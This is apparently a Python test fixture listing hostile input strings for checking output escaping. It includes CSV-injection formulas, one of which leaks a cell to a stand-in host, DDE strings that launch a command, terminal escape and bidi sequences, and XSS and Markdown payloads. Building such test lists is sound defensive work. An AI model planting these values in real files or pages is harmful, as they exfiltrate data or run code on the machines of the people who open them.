"""Known hostile names: what a stranger can put in an issuer, an account name, a label, a note or a group."""

from __future__ import annotations

PAYLOADS: list[str] = [
    # spreadsheet formulas (OWASP CSV injection), plain, after spaces, full-width, with tab/CR starts
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "=1+1", "+1 555 0100", "-2+3", "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0", "\r=1+1", "  =1+1", "＝1+1", "=cmd|'/C calc'!A0",
    # terminal escapes: ESC, CSI, the C1 CSI U+009B, OSC 8 links, BEL, bidi overrides
    "\x1b[31mred\x1b[0m", "\x1b]8;;http://evil.example\x1b\\CLICK\x1b]8;;\x1b\\", "\x9b31mC1\x9b0m",
    "\x1b]0;title\x07", "bell\x07", "\u202eevil\u202c", "nul\x00byte", "del\x7f", "\x85next line",
    # rich markup
    "[link=http://evil.example]CLICK[/link]", "[/bold]", "[/]", "[bold red]x", "trailing\\", "\\[not\\]",
    # Markdown and HTML
    "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "a | b | c", "row\rsplit", "row\nsplit",
    "row\r\nsplit", "[x](javascript:alert(1))", "![i](http://evil.example/p.png)", "# heading", "- item",
    "1. item", "**bold** _em_ `code` ~~s~~", "&lt;b&gt;", "\" onmouseover=\"alert(1)", "' onfocus='x",
    "</td></tr></table><h1>x</h1>", "<!-- c -->", "<a href=\"http://evil.example\">x</a>",
    # odd but legitimate
    "じゃらん", "Ünïcödé", "emoji 🔑", "", " ", "\u2028sep", "\ufeffbom", "x" * 300,
]
